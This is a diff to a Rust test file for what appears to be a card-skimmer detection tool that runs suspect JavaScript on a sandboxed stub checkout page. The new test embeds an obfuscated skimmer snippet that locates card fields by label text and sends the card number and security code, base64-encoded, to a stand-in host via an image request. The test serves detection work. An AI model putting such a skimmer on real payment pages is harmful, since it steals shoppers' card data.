@@ -5,13 +5,13 @@
 //! sends it that the page used to lack, so the script stopped (a missing API threw) or sent
 //! nothing; written plain, because the stub page runs the code whatever it looks like.
 
-use skimscan::js::sandbox::emulate::{Observed, layer, limits, observe};
+use skimscan::js::sandbox::emulate::{Observed, StubPage, layer, limits, observe};
 
 /// The canary card number the stub page answers for card-number fields.
 const PAN: &str = "4111111111111111";
 
 fn run(src: &str) -> Observed {
-    observe(src, limits(false), None).expect("the stub page runs")
+    observe(src, limits(false), StubPage::default()).expect("the stub page runs")
 }
 
 /// The data of the sends to `host`, one string each (URL and body).
@@ -240,14 +240,23 @@ fn the_page_address_a_script_sees_keeps_a_checkout_path() {
         payment_page: true,
         page_fields: Vec::new(),
         page_values: Default::default(),
+        page_form: Vec::new(),
         line_offset: 1,
         column_offset: 1,
     };
     let url = job.stub_page_url().expect("a host is known");
-    let obs = observe(src, limits(false), Some(&url)).unwrap();
+    let obs = observe(
+        src,
+        limits(false),
+        StubPage {
+            url: Some(&url),
+            ..StubPage::default()
+        },
+    )
+    .unwrap();
     assert_card_sent(&obs, "gated.example");
     // On another host the script stays quiet.
-    let other = observe(src, limits(false), None).unwrap();
+    let other = observe(src, limits(false), StubPage::default()).unwrap();
     assert!(sent_to(&other, "gated.example").is_empty());
 }
 
@@ -336,4 +345,40 @@ fn a_wrapped_form_submit_runs_when_the_order_is_placed() {
         };
     "#);
     assert_card_sent(&obs, "img-hook.example");
+}
+
+/// The page's own fields join the stub page (`StubPage::fields`): found by their ids and by
+/// their labels' text (here spelled out of char codes, as an obfuscated script would), each
+/// holding the canary of what the page says it holds.
+#[test]
+fn the_pages_own_fields_are_on_the_stub_page() {
+    use skimscan::js::StubField;
+    let src = r#"
+      var want = String.fromCharCode(0x30ab, 0x30fc, 0x30c9, 0x756a, 0x53f7);
+      var labels = document.getElementsByTagName('label'), f = null;
+      for (var i = 0; i < labels.length; i++) if (labels[i].textContent.indexOf(want) >= 0) f = document.getElementById(labels[i].htmlFor);
+      var cvc = document.getElementById(['f', 3].join(''));
+      if (f && f.value.length > 12) new Image().src = 'https://px.mirror-cdn.example/c?d=' + btoa(f.value + ';' + cvc.value);
+    "#;
+    let field = |id: &str, holds: &str, caption: &str| StubField {
+        id: Some(id.into()),
+        name: id.into(),
+        holds: holds.into(),
+        caption: Some(caption.into()),
+    };
+    let fields = [
+        field("f1", "cc-number", "カード番号"),
+        field("f3", "cc-csc", "セキュリティコード"),
+    ];
+    let at = StubPage {
+        fields: &fields,
+        ..StubPage::default()
+    };
+    let obs = observe(src, limits(false), at).unwrap();
+    assert_card_sent(&obs, "mirror-cdn.example");
+    let sent = sent_to(&obs, "mirror-cdn.example").join(" ");
+    // The security code's canary too, by its id.
+    assert!(sent.contains("NDExMTExMTExMTExMTExMTs3Mzc"), "{sent}");
+    // Without the page's fields, no label says カード番号 and nothing is sent.
+    assert!(sent_to(&run(src), "mirror-cdn.example").is_empty());
 }
